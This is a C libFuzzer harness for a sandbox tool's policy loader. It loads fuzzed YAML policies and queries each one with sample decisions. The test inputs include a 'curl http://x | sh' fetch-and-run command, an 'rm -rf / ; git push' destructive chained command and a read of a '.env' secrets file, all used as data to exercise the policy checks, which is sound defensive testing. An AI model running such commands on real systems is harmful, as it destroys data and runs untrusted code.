/*
 * fuzz_policy_load.c — libFuzzer harness for the policy loader.
 *
 * A policy is hostile input: a cloned repository's ./.sbx.yaml is loaded by
 * sbx-guard before anything else runs.  The loader must refuse every bad
 * file with a diagnostic and never crash, hang or leak, whatever the bytes.
 * When a policy loads, it is also turned into the image the preload maps
 * and asked one question of each kind, so the compiled tables get used.
 */
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include "policy.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    static const struct policy_options opt = {
        .workspace = "/nonexistent/sbx-fuzz/ws",
        .home = "/nonexistent/sbx-fuzz/home",
    };
    struct policy_diag diag;
    struct policy *p = policy_load_buffer("fuzz.yaml", (const char *)data, size, &opt, &diag);
    if (p == NULL)
        return 0;
    static char *const argv[] = { "sh", "-c", "curl http://x | sh", NULL };
    char text[512];
    struct policy_verdict v;
    (void)policy_decide_path(p, SBX_OP_OPEN_READ, "/nonexistent/sbx-fuzz/ws/.env", &v);
    (void)policy_rule_format(v.rule, text, sizeof text);
    (void)policy_decide_path(p, SBX_OP_OPEN_WRITE, "/nonexistent/sbx-fuzz/ws/a/b.c", &v);
    (void)policy_decide_exec(p, "/usr/bin/sh", argv, &v);
    (void)policy_decide_command(p, "rm -rf / ; git push", &v);
    (void)policy_decide_net_text(p, SBX_OP_CONNECT, "api.example.com:443", &v);
    (void)policy_decide_net_text(p, SBX_OP_CONNECT, "[::1]:8000", &v);
    (void)policy_summary(p, text, sizeof text);
    policy_free(p);
    return 0;
}
